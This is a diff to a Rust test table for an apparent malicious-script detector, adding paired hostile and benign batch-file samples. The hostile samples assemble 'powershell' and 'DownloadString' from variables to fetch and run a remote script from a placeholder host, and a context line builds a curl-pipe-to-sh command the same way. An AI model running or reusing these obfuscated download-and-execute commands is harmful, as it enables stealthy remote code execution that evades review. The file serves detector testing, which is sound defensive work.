@@ -3132,6 +3132,20 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "u <- paste0(\"https://\", \"x.example.net\", \"/i\")\njob <- sprintf(\"%s -fsS %s | %s\", paste0(\"cu\", \"rl\"), u, paste0(\"s\", \"h\"))",
         "u <- paste0(\"https://\", \"x.example.net\", \"/i.csv\")\njob <- sprintf(\"%s -fsS -o data.csv %s\", paste0(\"cu\", \"rl\"), u)",
     ),
+    // Issue 18 (misses10b): a batch file's `set` values expanded where
+    // `%a%%b%` stands, and a method named by a string read as the method.
+    (
+        "shell-assembly",
+        "scripts/x.cmd",
+        "%p1%%p2% -nop -c \"Get-Date\"",
+        "echo %DATE% %TIME%",
+    ),
+    (
+        "assembled-payload",
+        "scripts/x.cmd",
+        "set p1=power\nset p2=shell\nset m=Down\nset m=%m%loadString\n%p1%%p2% -c \"$w=New-Object Net.WebClient;$s=$w.('%m%')('https://x.example.net/e.ps1');&([scriptblock]::Create($s))\"",
+        "set p1=power\nset p2=shell\nset m=Get\nset m=%m%-Date\n%p1%%p2% -c \"$d=%m%;Write-Output ('built ' + $d.ToString())\"",
+    ),
 ];
 
 #[test]
